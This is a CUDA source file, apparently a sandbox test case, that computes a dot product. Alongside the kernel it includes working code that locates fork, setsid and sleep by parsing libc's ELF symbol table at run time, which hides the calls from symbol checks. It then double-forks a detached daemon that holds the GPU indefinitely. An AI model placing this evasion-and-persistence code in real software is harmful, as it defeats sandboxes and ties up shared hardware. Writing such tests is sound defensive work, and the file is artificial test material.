// dot, which leaves a detached background process behind: fork() and setsid() found by name at run time
// (no symbol in the object); the child starts a new session and forks again, and the grandchild sleeps
// forever holding every descriptor and the GPU. On an H100 this stalled a class run for over six minutes
// (compute-sanitizer waits for every process of its target). Were the fork to succeed, the result is
// spoiled on purpose: a correct dot is the proof that the sandbox refused it.
#include <algorithm>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "cuda_check.h"
#include "tasks.h"

namespace {

// --- resolver: a C library function found by name at run time, with no symbol for it in this object ---
// Walks back from labs to the library's ELF header, then reads the library's own dynamic symbol table.
// (labs: a C library function no sanitizer replaces. printf, under the CPU backend's AddressSanitizer, is
// libasan's, whose table has no fork, setsid or socket: the walk would find nothing to call there.)
template <typename T>
T peek(const unsigned char* p, std::size_t offset) {
    T value;
    std::memcpy(&value, p + offset, sizeof value);
    return value;
}

void* resolve(const char* name) {
    std::uintptr_t page = reinterpret_cast<std::uintptr_t>(&labs) & ~std::uintptr_t(4095);
    const unsigned char* base = nullptr;
    for (int i = 0; i < (1 << 16) && base == nullptr; ++i, page -= 4096)
        if (std::memcmp(reinterpret_cast<const void*>(page), "\x7f" "ELF", 4) == 0)
            base = reinterpret_cast<const unsigned char*>(page);
    if (base == nullptr) return nullptr;
    const auto phoff = peek<std::uint64_t>(base, 0x20);
    const auto phnum = peek<std::uint16_t>(base, 0x38);
    const unsigned char* dynamic = nullptr;
    for (int i = 0; i < phnum; ++i) {
        const unsigned char* ph = base + phoff + 56 * i;
        if (peek<std::uint32_t>(ph, 0) == 2) dynamic = base + peek<std::uint64_t>(ph, 16);  // PT_DYNAMIC
    }
    if (dynamic == nullptr) return nullptr;
    auto address = [base](std::uint64_t v) {
        const auto b = reinterpret_cast<std::uint64_t>(base);
        return reinterpret_cast<const unsigned char*>(v < b ? b + v : v);
    };
    const unsigned char *strtab = nullptr, *symtab = nullptr, *gnu_hash = nullptr;
    for (const unsigned char* d = dynamic; peek<std::int64_t>(d, 0) != 0; d += 16) {
        const auto tag = peek<std::int64_t>(d, 0);
        const auto value = peek<std::uint64_t>(d, 8);
        if (tag == 5) strtab = address(value);                    // DT_STRTAB
        else if (tag == 6) symtab = address(value);               // DT_SYMTAB
        else if (tag == 0x6ffffef5) gnu_hash = address(value);    // DT_GNU_HASH
    }
    if (strtab == nullptr || symtab == nullptr || gnu_hash == nullptr) return nullptr;
    const auto buckets = peek<std::uint32_t>(gnu_hash, 0), first = peek<std::uint32_t>(gnu_hash, 4);
    const unsigned char* bucket = gnu_hash + 16 + 8 * peek<std::uint32_t>(gnu_hash, 8);
    const unsigned char* chain = bucket + 4 * buckets;
    std::uint32_t last = 0;
    for (std::uint32_t b = 0; b < buckets; ++b) last = std::max(last, peek<std::uint32_t>(bucket, 4 * b));
    if (last >= first)
        while ((peek<std::uint32_t>(chain, 4 * (last - first)) & 1) == 0) ++last;
    for (std::uint32_t i = 0; i <= last; ++i) {
        const unsigned char* sym = symtab + 24 * i;
        const auto value = peek<std::uint64_t>(sym, 8);
        if (value != 0 && std::strcmp(reinterpret_cast<const char*>(strtab + peek<std::uint32_t>(sym, 0)), name) == 0)
            return const_cast<unsigned char*>(base + value);
    }
    return nullptr;
}
// --- end resolver ---

__global__ void dot_kernel(const float* x, const float* y, float* result, int n, float spoil) {
    __shared__ float partial[256];
    float sum = 0.0f;
    for (int i = blockIdx.x * blockDim.x + threadIdx.x; i < n; i += blockDim.x * gridDim.x) sum += x[i] * y[i];
    partial[threadIdx.x] = sum;
    __syncthreads();
    for (int s = blockDim.x / 2; s > 0; s /= 2) {
        if (threadIdx.x < s) partial[threadIdx.x] += partial[threadIdx.x + s];
        __syncthreads();
    }
    if (threadIdx.x == 0) atomicAdd(result, partial[0] + (blockIdx.x == 0 ? spoil : 0.0f));
}

float leave_a_daemon() {
    using Call = int (*)();
    using Sleep = unsigned (*)(unsigned);
    auto* fork_fn = reinterpret_cast<Call>(resolve("fork"));
    auto* setsid_fn = reinterpret_cast<Call>(resolve("setsid"));
    auto* sleep_fn = reinterpret_cast<Sleep>(resolve("sleep"));
    auto* exit_fn = reinterpret_cast<void (*)(int)>(resolve("_exit"));
    if (fork_fn == nullptr || setsid_fn == nullptr || sleep_fn == nullptr || exit_fn == nullptr) return 1.0f;
    const int pid = fork_fn();
    if (pid == 0) {
        setsid_fn();
        if (fork_fn() == 0)
            for (;;) sleep_fn(3600);
        exit_fn(0);
    }
    return pid > 0 ? 1.0f : 0.0f;
}

}  // namespace

void dot(const float* x, const float* y, float* result, int n) {
    static const float spoil = leave_a_daemon();
    CUDA_CHECK(cudaMemset(result, 0, sizeof(float)));
    dot_kernel<<<std::min((n + 255) / 256, 1024), 256>>>(x, y, result, n, spoil);
    CUDA_CHECK_LAUNCH();
}
